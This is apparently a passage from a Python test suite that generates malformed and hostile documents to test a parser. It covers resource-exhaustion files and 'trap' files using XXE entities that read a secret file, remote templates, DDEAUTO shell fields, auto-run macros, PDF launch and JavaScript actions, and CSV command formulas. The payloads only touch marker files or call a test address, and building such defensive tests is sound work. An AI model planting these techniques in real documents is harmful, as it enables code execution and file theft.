    """Four hundred rules across and as many down, through every letter: each is in a cell of its own."""
    across = "".join(f"0 {i * 2} m 595 {i * 2} l S\n" for i in range(1, 400))
    down = "".join(f"{i * 4.2:.2f} 0 m {i * 4.2:.2f} 842 l S\n" for i in range(1, 140))
    return one_page(folder / "a.pdf", "0.1 w " + across + down)


@attack
def pdf_of_a_huge_ruled_page(folder: Path) -> Path:
    """Almost 100,000 cells that are far enough apart to be cells, beside the text, on a page of the size of a house."""
    across = "".join(f"1000 {i * 10} m 6000 {i * 10} l S\n" for i in range(1, 315))
    down = "".join(f"{1000 + i * 10} 0 m {1000 + i * 10} 5000 l S\n" for i in range(1, 315))
    return one_page(folder / "a.pdf", "0.1 w " + across + down, box="0 0 6000 5000")


@attack
def pdf_of_one_word_a_hundred_thousand_times(folder: Path) -> Path:
    """All words of a page stand in one place."""
    return one_page(folder / "a.pdf", shown("word", 650) * 100_000)


@attack
def pdf_of_fifty_thousand_links(folder: Path) -> Path:
    """Fifty thousand link annotations over one word."""
    link = f"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI ({POST}) >> >>"
    return one_page(folder / "a.pdf", more="/Annots [" + "6 0 R " * 50_000 + "]", others={6: link})


@attack
def pdf_cut_inside_an_update(folder: Path) -> Path:
    """It was changed once, and the copy ends in the middle of the change: an end mark is there, but not the last."""
    path = pdf(folder / "a.pdf", {
        1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: page(4),
        4: stream(shown(POST)), 5: FONT,
    })  # fmt: skip
    update = f"4 0 obj\n{stream(shown(POST) + shown(FILM, 600)).decode()}\nendobj\nxref\n4 1\n"
    return written(path, path.read_bytes() + update.encode())


@attack
def pdf_of_blank_pages(folder: Path) -> Path:
    """Two pages with nothing on them."""
    return pdf(folder / "a.pdf", {
        1: "<< /Type /Catalog /Pages 2 0 R >>", 2: "<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>", 3: page(4),
        4: stream(""), 5: FONT,
    })  # fmt: skip


# --- HTML ------------------------------------------------------------------------------------------------------


def html(path: Path, body: str = "", head: str = "", tail: str = "</body></html>") -> Path:
    start = f"<!DOCTYPE html><html><head>{head}</head><body><p>{POST}</p>"
    return written(path, f"{start}{body}<p>{FILM}</p>{tail}")


@attack
def html_of_nested_blocks(folder: Path) -> Path:
    """A hundred thousand blocks, each in the one before."""
    return html(folder / "a.html", "<div>" * 100_000 + "x" + "</div>" * 100_000)


@attack
def html_of_blocks_that_are_never_closed(folder: Path) -> Path:
    """Three hundred blocks that are never closed, as careless programs write them; then the text goes on."""
    return html(folder / "a.html", "<div>" * 300)


@attack
def html_of_nested_tables(folder: Path) -> Path:
    """Two thousand tables, each in a cell of the one before."""
    return html(folder / "a.html", "<table><tr><td>" * 2000 + "x" + "</td></tr></table>" * 2000)


@attack
def html_of_words_in_fonts_that_are_never_closed(folder: Path) -> Path:
    """A thousand font tags that are never closed."""
    return html(folder / "a.html", "<p><font color=red><b>x" * 1000)


@attack
def html_whose_comments_are_endless(folder: Path) -> Path:
    """It begins with comments, which can be parted in 2^140 ways by whoever looks for the first tag behind them."""
    return written(folder / "a.html", "<!---->" * 140 + f"x <p>{POST}</p><p>{FILM}</p>")


@attack
def html_of_declarations_that_never_end(folder: Path) -> Path:
    """A hundred thousand beginnings of an XML declaration."""
    return html(folder / "a.html", "<?xml" * 100_000)


@attack
def html_of_blanks(folder: Path) -> Path:
    """Two megabytes of blanks between two paragraphs."""
    return html(folder / "a.html", " " * 2_000_000)


@attack
def html_of_absurd_spans(folder: Path) -> Path:
    """Six hundred cells that each span a thousand columns and 65,534 rows."""
    row = '<td colspan="1000" rowspan="65534">x</td>' * 20
    return html(folder / "a.html", f"<table>{f'<tr>{row}</tr>' * 30}</table>")


@attack
def html_in_an_encoding_that_is_none(folder: Path) -> Path:
    """It names a charset that does not exist."""
    return html(folder / "a.html", head='<meta charset="x-no-such-charset">')


@attack
def html_in_an_undefined_encoding(folder: Path) -> Path:
    """It names Python's codec that refuses everything."""
    return html(folder / "a.html", head='<meta charset="undefined">')


@attack
def html_in_punycode(folder: Path) -> Path:
    """It names a codec for host names that takes a time with the square of the length."""
    return html(folder / "a.html", "x" * 300_000 + "-" + "a" * 300_000, head='<meta charset="punycode">')


@attack
def html_in_escapes(folder: Path) -> Path:
    """It names the codec of Python's string literals."""
    return html(folder / "a.html", "\\q \\x \\N{LATIN SMALL LETTER A} \\400", head='<meta charset="unicode_escape">')


@attack
def html_that_calls_itself_utf_16(folder: Path) -> Path:
    """It says that it is in UTF-16, in ASCII letters: browsers take no such word for true."""
    path = html(folder / "a.html", head='<meta charset="utf-16le">')
    content = path.read_bytes()
    return written(path, content + b"\n" * (len(content) % 2))


@attack
def html_with_nuls(folder: Path) -> Path:
    """A NUL in the middle, where careless parsers end."""
    return html(folder / "a.html", "<p>\0x\0</p>")


@attack
def html_whose_head_never_ends(folder: Path) -> Path:
    """A comment that is never closed, after the first address."""
    return html(folder / "a.html", "<!-- x ")


@attack
def html_whose_script_is_never_closed(folder: Path) -> Path:
    """A script that is never closed, after the first address: browsers show nothing behind it."""
    return html(folder / "a.html", "<script>x()")


@attack
def html_with_a_huge_attribute(folder: Path) -> Path:
    """An attribute of 20 megabytes."""
    return html(folder / "a.html", f'<p title="{"x" * 20_000_000}">x</p>')


# --- mail ------------------------------------------------------------------------------------------------------


def mail(path: Path, kind: str = 'text/plain; charset="utf-8"', body: str = "", encoding: str = "8bit", more: str = "",
         subject: str = "Report") -> Path:  # fmt: skip
    head = f"From: a@example.org\nTo: b@example.org\nSubject: {subject}\nMIME-Version: 1.0\n{more}"
    body = body or f"{POST}\n{FILM}\n"
    return written(path, f"{head}Content-Type: {kind}\nContent-Transfer-Encoding: {encoding}\n\n{body}")


@attack
def mail_of_nested_parts(folder: Path) -> Path:
    """Ten thousand messages of several parts, each in the one before."""
    parts = "".join(f'--b{i}\nContent-Type: multipart/mixed; boundary="b{i + 1}"\n\n' for i in range(10_000))
    return mail(folder / "a.eml", 'multipart/mixed; boundary="b0"', f"{parts}--b10000\n\n{POST}\n{FILM}\n")


@attack
def mail_of_nested_messages(folder: Path) -> Path:
    """Two thousand forwarded messages, each in the one before."""
    parts = "Content-Type: message/rfc822\n\n" * 2000
    return mail(folder / "a.eml", "message/rfc822", f"{parts}Content-Type: text/plain\n\n{POST}\n{FILM}\n")


@attack
def mail_of_many_parts(folder: Path) -> Path:
    """Three thousand attachments."""
    part = "--b\nContent-Type: image/png; name=x.png\nContent-Disposition: attachment\n\nx\n" * 3_000
    first = f"--b\nContent-Type: text/plain\n\n{POST}\n{FILM}\n"
    return mail(folder / "a.eml", 'multipart/mixed; boundary="b"', f"{first}{part}--b--\n")


@attack
def mail_of_a_long_subject(folder: Path) -> Path:
    """A subject of 20,000 encoded words."""
    return mail(folder / "a.eml", subject="=?utf-8?b?eHg=?=\n " * 20_000 + "x")


@attack
def mail_of_many_addressees(folder: Path) -> Path:
    """A million brackets and commas where the addressees stand."""
    return mail(folder / "a.eml", more="Cc: " + "(" * 1000 + ",<@" * 300_000 + "\n")


@attack
def mail_of_many_fields(folder: Path) -> Path:
    """A hundred thousand header fields."""
    return mail(folder / "a.eml", more="".join(f"X-{i}: x\n" for i in range(100_000)))


@attack
def mail_in_a_charset_that_is_none(folder: Path) -> Path:
    """A charset that does not exist."""
    return mail(folder / "a.eml", "text/plain; charset=x-no-such-charset")


@attack
def mail_in_an_undefined_charset(folder: Path) -> Path:
    """Python's codec that refuses everything."""
    return mail(folder / "a.eml", "text/plain; charset=undefined")


@attack
def mail_in_a_charset_of_garbage(folder: Path) -> Path:
    """A charset with a NUL, a quote and no end."""
    return mail(folder / "a.eml", 'text/plain; charset="\0\\"x; boundary=";; =')


@attack
def mail_of_broken_base64(folder: Path) -> Path:
    """Base64 with garbage in it and its end lost, after the first address."""
    good = base64.encodebytes(f"{POST}\n{'x' * 999}\n".encode()).decode()
    return mail(folder / "a.eml", body=f"{good}!!%%**\n=A=\n?", encoding="base64")


@attack
def mail_without_its_boundary(folder: Path) -> Path:
    """Several parts without a boundary between them."""
    return mail(folder / "a.eml", "multipart/mixed")


@attack
def mail_that_breaks_off_in_a_part(folder: Path) -> Path:
    """The second of two parts was to come."""
    part = f"--b\nContent-Type: text/plain\n\n{POST}\n{FILM}\n"
    return mail(folder / "a.eml", 'multipart/mixed; boundary="b"', part)


# --- text ------------------------------------------------------------------------------------------------------


@attack
def text_of_schemes(folder: Path) -> Path:
    """Fifty megabytes of "https://"."""
    return written(folder / "a.txt", f"{POST}\n{'https://' * 6_500_000}\n{FILM}\n")


@attack
def text_of_a_few_schemes(folder: Path) -> Path:
    """Half a megabyte of "https://"."""
    return written(folder / "a.txt", f"{POST}\n{'https://' * 65_000}\n{FILM}\n")


@attack
def text_of_schemes_line_by_line(folder: Path) -> Path:
    """Twenty thousand lines that are each the beginning of an address."""
    return written(folder / "a.txt", f"{POST}\n" + "https://\n" * 20_000 + f"\n{FILM}\n")


@attack
def text_of_escapes(folder: Path) -> Path:
    """Addresses of percent signs and redirectors within redirectors."""
    nested = "https://l.facebook.com/l.php?u=" * 2000
    return written(folder / "a.txt", f"{POST}\n{nested}\nhttps://example.org/{'%25' * 100_000}\n{FILM}\n")


@attack
def text_of_dots_and_digits(folder: Path) -> Path:
    """What outlines, dates and numbers are told by, without end: 1.1.1.1 and 01.01.01.01."""
    return written(
        folder / "a.txt",
        f"{POST}\n{'1.' * 100_000}\n{'01.01.2024-' * 20_000}\n{'9' * 300_000}\n{'Activity ' * 30_000}\n{FILM}\n",
    )


@attack
def text_of_marks(folder: Path) -> Path:
    """A million combining marks on one letter, and as many zero-width and right-to-left ones within an address."""
    marks = "e" + "\u0301" * 1_000_000 + "\n" + "\u200b" * 200_000 + "\u202e" * 200_000
    return written(folder / "a.txt", f"{POST}\n{marks}\n{FILM}\n")


@attack
def text_of_empty_lines(folder: Path) -> Path:
    """Five million empty lines."""
    return written(folder / "a.txt", f"{POST}\n" + "\n" * 5_000_000 + f"{FILM}\n")


@attack
def text_with_a_few_nuls(folder: Path) -> Path:
    """Three NULs in a text that is one otherwise."""
    return written(folder / "a.txt", f"{POST}\n" + "An honest line of text.\n" * 100 + f"\0\0\0\n{FILM}\n")


@attack
def text_of_nuls(folder: Path) -> Path:
    """A text whose download was broken off: its rest is NULs."""
    return written(folder / "a.txt", f"{POST}\n".encode() + b"\0" * 100_000)


@attack
def text_in_utf_32(folder: Path) -> Path:
    """UTF-32, whose mark begins with that of UTF-16."""
    return written(folder / "a.txt", f"{POST}\n{FILM}\n".encode("utf-32"))


@attack
def text_in_utf_16_without_a_mark(folder: Path) -> Path:
    """UTF-16 without the mark that says so."""
    return written(folder / "a.txt", f"{POST}\n{FILM}\n".encode("utf-16-le"))


@attack
def text_that_calls_itself_utf_16(folder: Path) -> Path:
    """The mark of UTF-16, and then UTF-8."""
    return written(folder / "a.txt", b"\xff\xfe" + f"Report\n{POST}\n{FILM}\n".encode())


@attack
def text_in_half_utf_16(folder: Path) -> Path:
    """UTF-16 with half a character, then half a pair, in the middle."""
    before, after = f"{POST}\n".encode("utf-16"), f"\n{FILM}\n".encode("utf-16-le")
    return written(folder / "a.txt", before + b"\x00\xd8" + after)


@attack
def text_in_two_encodings(folder: Path) -> Path:
    """Some lines in UTF-8, some in cp1251, and bytes that are neither."""
    lines = [POST.encode(), "Есеп беру".encode(), "Отчёт".encode("cp1251"), b"\xc0\xaf\xed\xa0\x80\x98", FILM.encode()]
    return written(folder / "a.txt", b"\n".join(lines) + b"\n")


@attack
def table_in_one_line(folder: Path) -> Path:
    """Fifty megabytes without a line's end."""
    return written(folder / "a.csv", "x" * 50_000_000)


@attack
def table_of_commas(folder: Path) -> Path:
    """Two million empty cells in one row."""
    return written(folder / "a.csv", f"a;{POST}\nb;{FILM}\n" + ";" * 2_000_000)


@attack
def table_whose_quotes_never_end(folder: Path) -> Path:
    """A quote that is never closed."""
    rows = "".join(f"{i};x\n" for i in range(10_000))
    return written(folder / "a.csv", f'a;{POST}\nb;"x\n{rows}c;{FILM}\n')


@attack
def table_of_formulas(folder: Path) -> Path:
    """A HYPERLINK formula with no end, of brackets and quotes."""
    cell = '=HYPERLINK("' + "x" * 50_000 + '";' + ")  " * 10_000 + "x"
    return written(folder / "a.csv", f'a;{POST}\nb;"{cell.replace(chr(34), chr(34) * 2)}"\nc;{FILM}\n')


@attack
def rtf_of_nested_groups(folder: Path) -> Path:
    """Two hundred thousand groups, each in the one before."""
    return written(folder / "a.rtf", f"{{\\rtf1 {POST}\\par " + "{" * 200_000 + "}" * 200_000 + f"{FILM}\\par}}")


@attack
def rtf_of_absurd_numbers(folder: Path) -> Path:
    """Two thousand million bytes of binary data are announced, and none come; a number of 100,000 digits."""
    return written(folder / "a.rtf", f"{{\\rtf1 {POST}\\par \\u{'9' * 100_000} \\bin2147483647 {FILM}\\par}}")


# --- what is no file -------------------------------------------------------------------------------------------


@attack
def sparse_giant(folder: Path) -> Path:
    """Two gigabytes that take no room on the disk."""
    with (folder / "a.pdf").open("wb") as file:
        file.write(b"%PDF-1.7\n")
        file.truncate(2 * GIGABYTE)
    return folder / "a.pdf"


@attack
def sparse_half_giant(folder: Path) -> Path:
    """Two hundred megabytes of NULs after the beginning of a PDF, and an end mark."""
    with (folder / "a.pdf").open("wb") as file:
        file.write(b"%PDF-1.7\n")
        file.seek(200 << 20)
        file.write(b"\n%%EOF\n")
    return folder / "a.pdf"


@attack
def pipe(folder: Path) -> Path:
    """A pipe that nobody writes into."""
    os.mkfifo(folder / "a.pdf")
    return folder / "a.pdf"


@attack
def endless_device(folder: Path) -> Path:
    """A link to a device that gives NULs for ever."""
    (folder / "a.pdf").symlink_to("/dev/zero")
    return folder / "a.pdf"


@attack
def circular_link(folder: Path) -> Path:
    """A link to itself."""
    (folder / "a.pdf").symlink_to(folder / "a.pdf")
    return folder / "a.pdf"


@attack
def directory(folder: Path) -> Path:
    """A directory that is named like a document."""
    (folder / "a.pdf").mkdir()
    return folder / "a.pdf"


@attack
def server(folder: Path) -> Path:
    """A socket."""
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(os.path.relpath(folder / "s"))
    return folder / "s"


@attack
def two_lines_for_a_name(folder: Path) -> Path:
    """A name with a line's end and a terminal's escape sequence in it, of a file that cannot be read."""
    return written(folder / "a\n\x1b[31mb.pdf", b"\0")


# --- what would fetch or execute -------------------------------------------------------------------------------
# Each trap names an address at which somebody listens, a file with SECRET in it, and a file that only a program that
# was executed would make. All of them are honest documents besides.


def entities(address: str, secret: Path) -> str:
    return (
        f'<!DOCTYPE x SYSTEM "{address}/x.dtd" [<!ENTITY % outer SYSTEM "{address}/outer.dtd"> %outer; '
        f'<!ENTITY far SYSTEM "{address}/far"><!ENTITY near SYSTEM "{secret.as_uri()}">]>'
    )


@trap
def docx_with_external_entities(folder: Path, address: str, secret: Path) -> Path:
    """A DTD, a parameter entity, an entity far away and one on this machine."""
    return docx(folder / "a.docx", said("&near;&far;"), entities(address, secret))


@trap
def docx_with_inclusions(folder: Path, address: str, secret: Path) -> Path:
    """XInclude, twice."""
    body = "".join(f'<xi:include href="{href}" parse="text"/>' for href in (address, secret.as_uri()))
    return docx(folder / "a.docx", f"{body}<w:p><w:r><w:t>{body}</w:t></w:r></w:p>")


@trap
def docx_with_a_style_sheet(folder: Path, address: str, secret: Path) -> Path:
    """Processing instructions and schema locations that name addresses."""
    text = document_xml("").replace("<w:body>", f'<?xml-stylesheet href="{address}/x.xsl" type="text/xsl"?><w:body>')
    where = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{W} {address}/x.xsd"'
    text = text.replace("<w:document ", f"<w:document {where} ")
    return docx(folder / "a.docx", **{"word/document.xml": text})


@trap
def docx_with_a_remote_template(folder: Path, address: str, secret: Path) -> Path:
    """A template, a picture, a part of the text, an object and a frame that are elsewhere."""
    kinds = ("attachedTemplate", "image", "aFChunk", "oleObject", "frame", "subDocument", "settings", "styles")
    targets = {kind: address if kind != "subDocument" else secret.as_uri() for kind in kinds}
    rels = "".join(
        f'<Relationship Id="{kind}" Type="{R}/{kind}" Target="{target}/{kind}" TargetMode="External"/>'
        for kind, target in targets.items()
    )
    body = (
        '<w:altChunk r:id="aFChunk"/><w:subDoc r:id="subDocument"/><w:p><w:r><w:drawing><a:blip r:link="image"/>'
        '</w:drawing><w:object r:id="oleObject"/></w:r></w:p>'
    )
    return docx(folder / "a.docx", body, **{"word/_rels/document.xml.rels": relations(rels)})


@trap
def docx_with_commanding_fields(folder: Path, address: str, secret: Path) -> Path:
    """Fields that start a program, include a file, and include a picture from elsewhere."""
    touch = folder / "touched"
    fields = [
        f'DDEAUTO /bin/sh "-c" "touch {touch}"', f'INCLUDETEXT "{secret}"', f'INCLUDEPICTURE "{address}/x.png" \\d',
        f"MACROBUTTON AutoOpen {touch}",
    ]  # fmt: skip
    body = "".join(f"<w:p><w:fldSimple w:instr='{field}'/></w:p>" for field in fields)
    macro = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + f"Sub AutoOpen(): Shell 'touch {touch}'".encode()
    return docx(folder / "a.docx", body, **{"word/vbaProject.bin": macro})


@trap
def odt_with_external_entities(folder: Path, address: str, secret: Path) -> Path:
    """As in DOCX."""
    return odt(folder / "a.odt", "<text:p>&near;&far;</text:p>", entities(address, secret))


@trap
def odt_with_macros(folder: Path, address: str, secret: Path) -> Path:
    """A macro that starts with the document, a section and a picture from elsewhere, a section from this machine."""
    touch = folder / "touched"
    script = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"
    body = (
        f'<text:section text:name="s"><text:section-source xlink:href="{address}/x.odt"/></text:section>'
        f'<text:section text:name="t"><text:section-source xlink:href="{secret.as_uri()}"/></text:section>'
        f'<text:p><draw:frame><draw:image xlink:href="{address}/x.png"/></draw:frame></text:p>'
        f'<office:scripts><office:event-listeners xlink:href="{script}"/></office:scripts>'
    )
    module = f'<module language="StarBasic">Sub Main\nShell("touch {touch}")\nEnd Sub</module>'
    return odt(folder / "a.odt", body, **{"Basic/Standard/Module1.xml": module})


@trap
def xlsx_with_macros(folder: Path, address: str, secret: Path) -> Path:
    """A workbook with macros, commands in formulas, a query and a picture from elsewhere."""
    touch = folder / "touched"
    formulas = [
        f"cmd|'/c touch {touch}'!A0", f"WEBSERVICE(\"{address}/x\")", f"IMPORTXML(\"{address}\",\"/\")",
        f"'{address}/[x.xlsx]Sheet1'!A1", f"EXEC(\"touch {touch}\")",
    ]  # fmt: skip
    escaped = [formula.replace('"', "&quot;") for formula in formulas]
    rows = "".join(f'<row r="{i}"><c r="A{i}"><f>{formula}</f></c></row>' for i, formula in enumerate(escaped, 9))
    rels = f'<Relationship Id="i" Type="{R}/image" Target="{address}/x.png" TargetMode="External"/>'
    link = f'{XML}<externalLink xmlns:r="{R}"><externalBook r:id="rId1"/></externalLink>'
    macro = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + f"Sub Workbook_Open(): Shell 'touch {touch}'".encode()
    return xlsx(
        folder / "a.xlsm",
        lambda text: text.replace("</sheetData>", f"{rows}</sheetData>"),
        **{
            "xl/vbaProject.bin": macro,
            "xl/worksheets/_rels/sheet1.xml.rels": relations(rels),
            "xl/externalLinks/externalLink1.xml": link,
        },
    )


@trap
def xlsx_with_external_entities(folder: Path, address: str, secret: Path) -> Path:
    """As in DOCX, in a sheet."""
    row = '<row r="9"><c r="A9" t="inlineStr"><is><t>&near;&far;</t></is></c></row></sheetData>'
    return xlsx(folder / "a.xlsx", lambda text: entities(address, secret) + text.replace("</sheetData>", row))


@trap
def xlsx_whose_strings_have_external_entities(folder: Path, address: str, secret: Path) -> Path:
    """As in DOCX, in the shared strings."""
    strings = f'<sst xmlns="x">{"<si><t>&near;&far;</t></si>" * 6}</sst>'
    return xlsx(folder / "a.xlsx", **{"xl/sharedStrings.xml": entities(address, secret) + strings})


@trap
def pdf_with_actions(folder: Path, address: str, secret: Path) -> Path:
    """Opening it runs a script, starts a program, calls an address and sends a form."""
    touch = folder / "touched"
    script = f'app.launchURL("{address}/js"); this.submitForm("{address}/form"); util.readFileIntoStream("{secret}");'
    actions: dict[int, bytes | str] = {
        6: f"<< /S /JavaScript /JS ({script.replace('(', chr(92) + '(').replace(')', chr(92) + ')')}) /Next 7 0 R >>",
        7: f"<< /S /Launch /F (/bin/sh) /Unix << /F (touch) /P ({touch}) >> /Win << /F (cmd) /P ({touch}) >> "
           "/Next 8 0 R >>",
        8: f"<< /S /URI /URI ({address}/open) /Next 9 0 R >>",
        9: f"<< /S /SubmitForm /F << /FS /URL /F ({address}/form) >> /Next 10 0 R >>",
        10: f"<< /S /GoToR /F << /FS /URL /F ({address}/x.pdf) >> /D [0 /Fit] >>",
        11: "<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /AA << /PO 6 0 R /PV 7 0 R >> /A 8 0 R >>",
        12: f"<< /Type /Filespec /FS /URL /F ({address}/file) >>",
        13: stream("", f"/F 12 0 R /FFilter /FlateDecode /F << /FS /URL /F ({address}/stream) >> "),
    }  # fmt: skip
    catalogue = (
        "/OpenAction 6 0 R /AA << /WC 7 0 R /DP 8 0 R >> /Names << /JavaScript << /Names [(x) 6 0 R] >> "
        "/EmbeddedFiles << /Names [(x) 12 0 R] >> >>"
    )
    more = "/AA << /O 7 0 R /C 9 0 R >> /Annots [11 0 R]"
    return one_page(folder / "a.pdf", more=more, catalogue=catalogue, resources="/XObject << /X 13 0 R >>",
                    drawn="/X Do", others=actions)  # fmt: skip


@trap
def pdf_with_a_form_of_entities(folder: Path, address: str, secret: Path) -> Path:
    """An XFA form and metadata with external entities."""
    xfa = f"{entities(address, secret)}<xdp>&near;&far;</xdp>"
    catalogue = "/AcroForm << /Fields [] /XFA [(template) 6 0 R] /NeedAppearances true >> /Metadata 6 0 R"
    return one_page(folder / "a.pdf", catalogue=catalogue, others={6: stream(xfa)})


@trap
def html_with_everything(folder: Path, address: str, secret: Path) -> Path:
    """Scripts, pictures, styles, frames, a base, a refreshment, and a DTD with entities."""
    head = (
        f'<base href="{address}/"><link rel="stylesheet" href="{address}/x.css"><script src="{address}/x.js"></script>'
        f'<meta http-equiv="refresh" content="0;url={address}/x"><style>@import url({address}/y.css)</style>'
    )
    body = (
        f'<img src="{address}/x.png" onerror="x()"><iframe src="{address}/x.html"></iframe><object data="{address}/x">'
        f'</object><embed src="{secret.as_uri()}"><iframe src="{secret.as_uri()}"></iframe><video src="{address}/v">'
        f'</video><svg><use href="{address}/x.svg#x"/></svg><?php system("touch {folder / "touched"}") ?>'
        f'<xi:include href="{secret.as_uri()}" parse="text"/><!--#include file="{secret}" --><p>&near;&far;</p>'
    )
    path = html(folder / "a.html", body, head)
    return written(
        path, path.read_text().replace("<!DOCTYPE html>", entities(address, secret).replace("x ", "html ", 1))
    )


@trap
def xhtml_with_external_entities(folder: Path, address: str, secret: Path) -> Path:
    """A page that is XML, with the entities of XML."""
    doctype = entities(address, secret).replace("DOCTYPE x", "DOCTYPE html")
    page = f"{XML}{doctype}<html><body><p>{POST}</p><p>&near;&far;</p><p>{FILM}</p></body></html>"
    return written(folder / "a.html", page)


@trap
def mail_with_external_bodies(folder: Path, address: str, secret: Path) -> Path:
    """A part that is elsewhere, a part that is on this machine, a receipt that is asked for, pictures."""
    parts = [
        f'Content-Type: text/html\n\n<p>{POST}</p><img src="{address}/x.png"><p>{FILM}</p>',
        f'Content-Type: message/external-body; access-type=URL; URL="{address}/x"\n\nContent-Type: text/plain\n',
        f'Content-Type: message/external-body; access-type=local-file; name="{secret}"\n\nContent-Type: text/plain\n',
        'Content-Type: text/plain\nContent-Disposition: attachment; filename="../../touched"\n\nx',
    ]
    body = "".join(f"--b\n{part}\n" for part in parts)
    more = f"Disposition-Notification-To: <a@example.org>\nList-Unsubscribe: <{address}/x>\n"
    return mail(folder / "a.eml", 'multipart/mixed; boundary="b"', f"{body}--b--\n", more=more)


@trap
def table_with_commands(folder: Path, address: str, secret: Path) -> Path:
    """Formulas that start programs and call addresses."""
    touch = folder / "touched"
    cells = [f"=cmd|'/c touch {touch}'!A0", f'"=WEBSERVICE(""{address}"")"', f"@SUM(1+1)*cmd|'touch {touch}'!A0"]
    rows = "".join(f"{i};{cell}\n" for i, cell in enumerate(cells))
    return written(folder / "a.csv", f"a;{POST}\n{rows}c;{FILM}\n")


@trap
def rtf_with_a_remote_template(folder: Path, address: str, secret: Path) -> Path:
    """A template and a picture from elsewhere, an object, a field that includes a file."""
    fields = [
        f'INCLUDEPICTURE "{address}/x.png"',
        f'INCLUDETEXT "{secret}"',
        f'DDEAUTO sh "touch {folder / "touched"}"',
    ]
    inside = "".join(f"{{\\field{{\\*\\fldinst {field}}}{{\\fldrslt x}}}}" for field in fields)
    start = f"{{\\rtf1{{\\*\\template {address}/x.dot}}{{\\object\\objautlink\\objupdate{{\\*\\objdata 0105}}}}"
    return written(folder / "a.rtf", f"{start}{POST}\\par {inside}\\par {FILM}\\par}}")
